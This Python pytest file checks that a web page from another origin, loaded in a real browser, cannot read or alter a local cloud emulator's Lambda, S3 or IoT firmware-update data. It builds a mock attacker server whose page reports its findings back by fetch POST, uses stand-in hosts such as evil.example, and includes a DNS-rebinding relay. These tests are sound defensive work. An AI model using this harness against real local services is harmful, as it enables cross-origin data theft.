"""A page of another origin, in a real browser, can do nothing in a local cloud."""

import base64
import contextlib
import functools
import http.server
import io
import json
import re
import select
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator
from contextlib import AbstractContextManager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from fuota_constructs.local.cloud import LocalCloud

SCRIPT = (Path(__file__).parent / "foreign_page.js").read_text("utf-8")
NAMES = "MAP evil.example 127.0.0.1, MAP evil.localhost 127.0.0.1, MAP rebound.example 127.0.0.2"
ROUNDS = ("plain", "iam")


def _zip() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("index.py", "def handler(event, context):\n    return 'the answer of the victim'\n")
    return made.getvalue()


class Attacker:
    """Serves the page, and waits for what it found out. The page counts as loaded only then."""

    def __init__(self, page: str, address: str = "127.0.0.1", port: int = 0) -> None:
        self.outcomes: dict[str, Any] = {}
        self._told = threading.Event()
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path == "/hold":
                    attacker._told.wait(240)
                self._answer(page if self.path == "/page" else "")

            def do_POST(self) -> None:
                told = self.rfile.read(int(self.headers["Content-Length"]))
                attacker.outcomes = json.loads(told)
                attacker._told.set()
                self._answer("")

            def _answer(self, text: str) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.end_headers()
                self.wfile.write(text.encode())

            def log_message(self, *_: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer((address, port), Handler)
        self.port = self.server.server_address[1]

    @contextlib.contextmanager
    def serving(self) -> Iterator["Attacker"]:
        """Serve while the context lasts."""
        thread = threading.Thread(target=self.server.serve_forever, args=(0.05,))
        thread.start()
        try:
            yield self
        finally:
            self._told.set()
            self.server.shutdown()
            thread.join()
            self.server.server_close()


def _page(cloud: str, own: str = "") -> str:
    call = f"outcomes({json.dumps(cloud)}, 'victim', {json.dumps(base64.b64encode(_zip()).decode())})"
    tell = f"found => fetch('{own}/told', {{method: 'POST', body: JSON.stringify(found)}})"
    failed = "error => ({failed: String(error)})"
    return f"<!DOCTYPE html><body><script>{SCRIPT}\n{call}.catch({failed}).then({tell})</script><img src='{own}/hold'>"


@pytest.fixture(scope="module", params=ROUNDS)
def cloud(
    request: pytest.FixtureRequest, start_cloud: Callable[..., AbstractContextManager[LocalCloud]]
) -> Iterator[LocalCloud]:
    """A cloud with something to steal."""
    with start_cloud(iam=request.param == "iam") as running:
        trust = {"Effect": "Allow", "Principal": {"Service": "lambda.amazonaws.com"}, "Action": "sts:AssumeRole"}
        document = json.dumps({"Version": "2012-10-17", "Statement": [trust]})
        role = running.client("iam").create_role(RoleName="r", AssumeRolePolicyDocument=document)["Role"]["Arn"]
        running.client("lambda").create_function(
            FunctionName="victim", Runtime="python3.11", Handler="index.handler", Role=role, Code={"ZipFile": _zip()}
        )
        where = {"LocationConstraint": running.region}
        running.client("s3").create_bucket(Bucket="private", CreateBucketConfiguration=where)
        running.client("s3").put_object(Bucket="private", Key="image.bin", Body=b"image")
        image = {"FirmwareUpdateImage": "s3://private/image.bin", "FirmwareUpdateRole": role}
        running.client("iotwireless").create_fuota_task(Name="precious", **image)
        yield running


@pytest.fixture
def untouched(cloud: LocalCloud) -> Iterator[None]:
    """Nothing of the cloud has changed after the test, and nothing of it ran."""
    cloud.admin("requests", method="DELETE")
    before = cloud.admin("clock")["advanced_seconds"]
    yield
    assert cloud.admin("requests")["requests"] == []
    assert cloud.admin("clock")["advanced_seconds"] == before
    assert cloud.admin("faults")["faults"] == []
    assert [task["Name"] for task in cloud.client("iotwireless").list_fuota_tasks()["FuotaTaskList"]] == ["precious"]
    functions = cloud.client("lambda").list_functions()["Functions"]
    assert [function["FunctionName"] for function in functions] == ["victim"]
    assert [item["Key"] for item in cloud.client("s3").list_objects_v2(Bucket="private")["Contents"]] == ["image.bin"]
    assert cloud.client("logs").describe_log_groups()["logGroups"] == []  # a function that ran has one


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.example", "evil.localhost"])
def test_fails_from_a_page_of_another_origin(browser: Any, cloud: LocalCloud, untouched: None, name: str) -> None:
    for own_name in ("127.0.0.1", "localhost"):
        target = f"{urlsplit(cloud.url).scheme}://{own_name}:{cloud.port}"
        with Attacker(_page(target)).serving() as attacker:
            browser.visit(f"http://{name}:{attacker.port}/page", NAMES)
        _check(attacker.outcomes, readable={"unreadable"})


def _check(outcomes: dict[str, Any], *, readable: set[Any]) -> None:
    assert len(outcomes) > 60, outcomes
    assert {outcome for name, outcome in outcomes.items() if name.startswith("cors ")} <= readable
    # An opaque answer is one that the page may not read: these requests did arrive.
    assert {outcome for name, outcome in outcomes.items() if name.startswith("no-cors ")} <= {"opaque", *readable}
    assert "opaque" in outcomes.values() or 403 in outcomes.values()
    elements = ("image", "script", "stylesheet", "websocket", "events")
    assert {name: outcomes[name] for name in elements} == dict.fromkeys(elements, "error")


@pytest.mark.parametrize("path", ["/_ministack/health", "/_fuota/state", "/fuota-tasks", "/private/image.bin"])
def test_fails_for_a_name_that_resolves_to_this_machine(
    browser: Any, cloud: LocalCloud, untouched: None, path: str
) -> None:
    scheme = urlsplit(cloud.url).scheme
    shown = browser.visit(f"{scheme}://evil.example:{cloud.port}{path}", NAMES)
    assert f"is for the host evil.example:{cloud.port}" in shown
    assert "precious" not in shown


# With TLS the cloud's certificate is for no other name: a rebound connection fails before there is any HTTP.
@pytest.mark.parametrize("cloud", ["plain"], indirect=True)
def test_fails_for_a_name_that_comes_to_resolve_to_this_machine(
    browser: Any, cloud: LocalCloud, untouched: None
) -> None:
    with Rebinding(cloud.port) as attacker:
        browser.visit(f"http://rebound.example:{cloud.port}/page", NAMES)
    _check(attacker.outcomes, readable={403, "unreadable"})


class Rebinding:
    """A name that first has the address of the page, and then that of the cloud.

    The browser keeps one address here; what listens there passes the bytes of all but the page on to the cloud, which
    is what the cloud sees of such a browser: same-origin requests with the attacker's name as Host.
    """

    def __init__(self, port: int) -> None:
        self._cloud = ("127.0.0.1", port)
        self._attacker = Attacker(_page(f"http://rebound.example:{port}"))
        self._listener = socket.create_server(("127.0.0.2", port), reuse_port=False)
        self._threads: list[threading.Thread] = []
        self._ended = threading.Event()
        self._context = contextlib.ExitStack()

    def __enter__(self) -> Attacker:
        self._context.enter_context(self._attacker.serving())
        self._listener.settimeout(0.1)
        self._start(self._accept)
        return self._attacker

    def __exit__(self, *_: object) -> None:
        self._ended.set()
        self._context.close()
        for thread in self._threads:
            thread.join()
        self._listener.close()

    def _start(self, work: Callable[[], None]) -> None:
        self._threads.append(threading.Thread(target=work))
        self._threads[-1].start()

    def _accept(self) -> None:
        while not self._ended.is_set():
            with contextlib.suppress(TimeoutError):
                connection, _ = self._listener.accept()
                self._start(functools.partial(self._pass_on, connection))

    def _pass_on(self, connection: socket.socket) -> None:
        with connection, contextlib.suppress(OSError):
            head = connection.recv(65536)
            own = re.match(rb"\w+ /(page|hold|told) ", head)
            with socket.create_connection(("127.0.0.1", self._attacker.port) if own else self._cloud) as other:
                # One request a connection, so that each goes where it belongs.
                other.sendall(head.replace(b"Connection: keep-alive", b"Connection: close"))
                ends = {connection: other, other: connection}
                while not self._ended.is_set():
                    for end in select.select(list(ends), [], [], 0.1)[0]:
                        if not (piece := end.recv(65536)):
                            return
                        ends[end].sendall(piece)
